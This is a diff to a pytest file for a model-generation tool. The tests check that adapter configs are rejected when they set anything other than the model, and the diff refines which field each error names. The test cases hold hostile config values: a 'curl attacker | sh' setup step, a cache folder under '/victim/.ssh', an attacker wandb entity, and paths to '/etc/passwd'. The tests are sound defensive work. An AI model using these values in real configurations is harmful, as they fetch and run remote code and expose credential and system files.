@@ -11,6 +11,7 @@ from typing import Any
 
 import pytest
 import yaml
+from safetensors.numpy import save_file
 
 from qlora_fsdp import generate
 
@@ -23,7 +24,7 @@ class Adapter:
     def __init__(self, folder: Path, capsys: pytest.CaptureFixture[str]) -> None:
         self.folder, self.capsys = folder, capsys
         self.folder.mkdir()
-        (self.folder / "adapter_model.safetensors").touch()
+        save_file({}, self.folder / "adapter_model.safetensors")
         self.write_config(None)
 
     def write_config(self, base: Any) -> None:
@@ -109,7 +110,7 @@ def test_who_has_it_in_a_folder_of_their_own_allows_it(adapter: Adapter, evil_ba
 @pytest.mark.parametrize(
     ("settings", "named"),
     [
-        ({"data": {"cache_folder": "/victim/.ssh"}}, "data"),
+        ({"data": {"cache_folder": "/victim/.ssh"}}, "data.cache_folder"),
         ({"run": {"folder": "/victim"}}, "run"),
         ({"tracking": {"wandb": "online", "entity": "attacker"}}, "tracking"),
         ({"slurm": {"setup": ["curl attacker | sh"]}}, "slurm"),
@@ -118,7 +119,8 @@ def test_who_has_it_in_a_folder_of_their_own_allows_it(adapter: Adapter, evil_ba
         ({"hydra": {"searchpath": ["file:///tmp/evil"]}}, "hydra"),
         ({"defaults": [{"override /data": "random"}]}, "defaults"),
         ({"training": {"packing": True, "max_length": 1}}, "training.max_length"),
-        ({"data": {"chat_template": "/etc/passwd"}, "model": {"name": "x"}}, "data"),
+        ({"data": {"chat_template": "/etc/passwd"}, "model": {"name": "x"}}, "data.chat_template"),
+        ({"data": {"path": "/etc/passwd", "system_prompt": "x"}}, "data.path"),
     ],
 )
 def test_only_the_model_is_described(adapter: Adapter, settings: dict[str, Any], named: str) -> None:
